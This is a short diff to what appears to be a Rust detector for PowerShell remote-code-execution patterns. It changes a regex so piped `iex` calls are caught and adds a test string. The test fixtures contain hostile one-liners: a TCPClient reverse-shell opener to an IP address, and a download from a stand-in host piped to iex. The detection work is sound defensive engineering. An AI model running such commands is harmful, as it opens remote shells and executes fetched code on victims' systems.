@@ -274,7 +274,7 @@ impl Rce {
                 RCE_WINDOWS,
                 // PowerShell's downloaders, sockets (reverse shells) and expression runners, also
                 // fed by a pipe or a variable (`... | iex`, `iex $d`).
-                r"\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+(?:system\.)?net\.(?:webclient|sockets\.(?:tcpclient|udpclient|tcplistener))|iex\s*[($]|\|\s*iex\b)",
+                r"\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+(?:system\.)?net\.(?:webclient|sockets\.(?:tcpclient|udpclient|tcplistener))|iex\s*[($])|\|\s*iex\b",
             ),
             (
                 RCE_WINDOWS,
@@ -1433,6 +1433,7 @@ mod tests {
                 "x'; $c=New-Object System.Net.Sockets.TCPClient('10.66.0.9',443);$s=$c.GetStream()",
                 "(New-Object Net.WebClient).DownloadString('http://x.example/a') | iex",
                 "$r=(iex $d 2>&1|Out-String)",
+                "$payload | iex",
             ],
         );
         rule(
